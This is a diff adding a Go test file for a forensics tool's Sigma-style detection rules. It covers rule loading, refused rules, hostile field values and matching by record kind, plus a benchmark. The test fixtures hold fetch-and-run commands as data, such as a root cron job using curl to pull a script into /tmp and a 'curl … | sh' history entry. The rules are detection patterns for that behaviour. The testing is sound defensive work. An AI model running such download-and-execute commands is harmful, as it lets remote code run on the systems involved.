@@ -1,0 +1,161 @@
+package detect
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"icecore/forensics/artifact"
+)
+
+// load writes one rule to a folder and reads it as the user's.
+func load(t testing.TB, rules ...string) *Rules {
+	t.Helper()
+	dir := t.TempDir()
+	for i, r := range rules {
+		if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("%02d.yml", i)), []byte(r), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	r, err := Load(Options{Dirs: []string{dir}, NoBuiltin: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return r
+}
+
+const head = "title: a rule\nlevel: high\ntags: [attack.execution, attack.t1059.004]\nlogsource: {product: linux, category: process_creation}\n"
+
+// TestUserRules: rules as they are written for the public rule set, and what they
+// must and must not see.
+func TestUserRules(t *testing.T) {
+	const job = "cron.job user=root; command=/usr/bin/curl -fsSL http://203.0.113.77/a.sh -o /tmp/A.sh; programs=/usr/bin/curl,sh; urls=http://203.0.113.77/a.sh; path=/etc/cron.d/x"
+	for _, tt := range []struct{ name, detection, record, twin string }{
+		{"image and command line", "  selection:\n    Image|endswith: '/curl'\n    CommandLine|contains|all:\n      - '-o'\n      - '/tmp/'\n  condition: selection\n", job, "command=/usr/bin/curl -o /srv/a"},
+		{"a bare program name has a path", "  selection:\n    Image|endswith: '/sh'\n  condition: selection\n", job, "programs=/usr/bin/curl"},
+		{"wildcards", "  selection:\n    CommandLine: '*curl*http?//*.sh *'\n  condition: selection\n", job, "command=/usr/bin/wget http://203.0.113.77/a.sh x"},
+		{"wildcards within contains", "  selection:\n    CommandLine|contains: 'curl*-o /tmp/'\n  condition: selection\n", job, "command=/usr/bin/curl -o /srv/a"},
+		{"no wildcard matches the whole value", "  selection:\n    User: root\n  condition: selection\n", job, "user=rooty"},
+		{"without regard to case", "  selection:\n    CommandLine|contains: '/tmp/a.SH'\n  condition: selection\n", job, "command=/tmp/b.sh"},
+		{"keywords", "  keywords:\n    - 'a.sh -o'\n    - 'never there'\n  condition: keywords\n", job, "command=/usr/bin/curl"},
+		{"all keywords", "  keywords:\n    '|all':\n      - '-fsSL'\n      - '203.0.113.77'\n  condition: keywords\n", job, "command=/usr/bin/wget 203.0.113.77"},
+		{"regular expression", "  selection:\n    CommandLine|re: 'https?://[0-9.]+/'\n  condition: selection\n", job, "command=curl http://host.example/"},
+		{"one of several", "  selection_a:\n    CommandLine|startswith: '/nothing'\n  selection_b:\n    CommandLine|contains: curl\n  condition: 1 of selection_*\n", job, "command=wget"},
+		{"with an exception", "  selection:\n    CommandLine|contains: curl\n  filter:\n    User: www-data\n  condition: selection and not filter\n", job, "user=www-data"},
+		{"a field that is not there", "  selection:\n    decoded: null\n    CommandLine|contains: curl\n  condition: selection\n", job, "decoded=x"},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			r := load(t, head+"detection:\n"+tt.detection)
+			if len(r.Problems) > 0 {
+				t.Fatal(r.Problems)
+			}
+			m := r.matcher()
+			rec, twin := record(t, tt.record), with(t, tt.record, tt.twin)
+			if len(m.match(t.Context(), &rec)) != 1 {
+				t.Error("it does not match")
+			}
+			if len(m.match(t.Context(), &twin)) != 0 {
+				t.Error("the twin matches")
+			}
+			if p := m.problems(); len(p) > 0 {
+				t.Error(p)
+			}
+		})
+	}
+}
+
+// TestRefusedRules: what cannot run is told, with the reason, and the rest runs.
+func TestRefusedRules(t *testing.T) {
+	const good = head + "detection:\n  selection:\n    CommandLine|contains: curl\n  condition: selection\n"
+	for _, tt := range []struct{ name, rule, why string }{
+		{"no YAML", "\t{", "cannot be read"},
+		{"no rule", "a: b\n", "needs a title"},
+		{"another system", strings.Replace(good, "linux", "windows", 1), "log source"},
+		{"records that are not there", strings.Replace(good, "process_creation", "network_connection", 1), "log source"},
+		{"counting", strings.Replace(good, "condition: selection", "condition: selection | count() by User > 5", 1), "counts"},
+		{"an unknown modifier", strings.Replace(good, "|contains", "|windash", 1), "windash"},
+		{"an unknown modifier behind a condition that fails", head + "detection:\n  selection:\n    User: nobody-of-that-name\n    CommandLine|base64offset|contains: x\n  condition: selection\n", "base64offset"},
+		{"a broken expression", strings.Replace(good, "contains: curl", "re: '('", 1), "missing closing"},
+		{"a broken network", strings.Replace(good, "CommandLine|contains: curl", "address|cidr: '300.0.0.0/8'", 1), "CIDR"},
+		{"a placeholder", strings.Replace(good, "curl", "'%tools%'", 1), "placeholder"},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			r := load(t, tt.rule, good)
+			if len(r.Problems) != 1 || !strings.Contains(r.Problems[0].Why, tt.why) || len(r.List()) != 1 {
+				t.Fatalf("problems %v, %d rules", r.Problems, len(r.List()))
+			}
+		})
+	}
+}
+
+// TestHostileValues: what an image says ends no analysis.
+func TestHostileValues(t *testing.T) {
+	r := load(t, head+"detection:\n  selection:\n    count|gt: 5\n    CommandLine|contains: x\n  condition: selection\n")
+	for _, v := range []string{"6", "~", "null", "", "[", "6e999", "0x10", "- a", "\xff\xfe", strings.Repeat("9", 1000)} {
+		rec := artifact.Record{ID: "R-1", Kind: "cron.run", Source: artifact.Source{Volume: "p1"}}
+		rec.Fields = []artifact.Field{{Name: "command", Value: "x"}, {Name: "count", Value: v}}
+		res, err := r.Run(t.Context(), &Input{Records: []artifact.Record{rec}, System: &artifact.System{}})
+		if err != nil {
+			t.Fatalf("%q: %v", v, err)
+		}
+		if v == "6" && len(res.Findings) != 1 {
+			t.Errorf("%q: %d findings", v, len(res.Findings))
+		}
+	}
+}
+
+// TestRulesByKind: no rule looks at a record of another kind, however it reads.
+func TestRulesByKind(t *testing.T) {
+	r := load(t, strings.Replace(head, "category: process_creation", "service: sshd", 1)+"detection:\n  keywords: [marker]\n  condition: keywords\n")
+	for _, tt := range []struct {
+		record string
+		match  bool
+	}{{"auth.login user=marker", true}, {"auth.failures users=marker", true}, {"account.user name=marker", false}, {"history.command command=marker", false}} {
+		rec := record(t, tt.record)
+		if got := len(r.matcher().match(t.Context(), &rec)) > 0; got != tt.match {
+			t.Errorf("%s: %v", tt.record, got)
+		}
+	}
+}
+
+// BenchmarkRun: the built-in rules over a hundred thousand records, of which a few
+// match.
+func BenchmarkRun(b *testing.B) {
+	r, err := Load(Options{})
+	if err != nil {
+		b.Fatal(err)
+	}
+	var recs []artifact.Record
+	for i := range 100_000 {
+		var rec artifact.Record
+		switch i % 5 {
+		case 0:
+			rec = artifact.Record{Kind: "auth.failures", Fields: []artifact.Field{{Name: "address", Value: fmt.Sprintf("192.0.2.%d", i%250)}, {Name: "count", Value: "3"}, {Name: "users", Value: "root,admin"}}}
+		case 1:
+			rec = artifact.Record{Kind: "cron.run", Fields: []artifact.Field{{Name: "command", Value: "/usr/local/bin/job"}, {Name: "programs", Value: "/usr/local/bin/job"}}}
+		case 2:
+			rec = artifact.Record{Kind: "auth.sudo", Fields: []artifact.Field{{Name: "command", Value: "/usr/bin/systemctl restart app"}, {Name: "programs", Value: "/usr/bin/systemctl"}}}
+		case 3:
+			rec = artifact.Record{Kind: "systemd.exec", Fields: []artifact.Field{{Name: "command", Value: "/usr/bin/a"}, {Name: "programs", Value: "/usr/bin/a"}}}
+		case 4:
+			rec = artifact.Record{Kind: "history.command", Fields: []artifact.Field{{Name: "command", Value: "curl http://198.51.100.1 | sh"}, {Name: "traits", Value: "fetch,pipe_to_shell"}}}
+		}
+		rec.ID = fmt.Sprintf("R-%06d", i)
+		rec.Source = artifact.Source{Volume: "p1", Path: "/var/log/x", Inode: uint64(i % 7)}
+		recs = append(recs, rec)
+	}
+	b.ResetTimer()
+	for range b.N {
+		res, err := r.Run(b.Context(), &Input{Records: slices.Clone(recs), System: &artifact.System{}})
+		if err != nil {
+			b.Fatal(err)
+		}
+		if len(res.Findings) > 100 {
+			b.Fatalf("%d findings", len(res.Findings))
+		}
+	}
+	b.ReportMetric(float64(b.Elapsed().Microseconds())/float64(b.N)/100_000, "µs/record")
+}
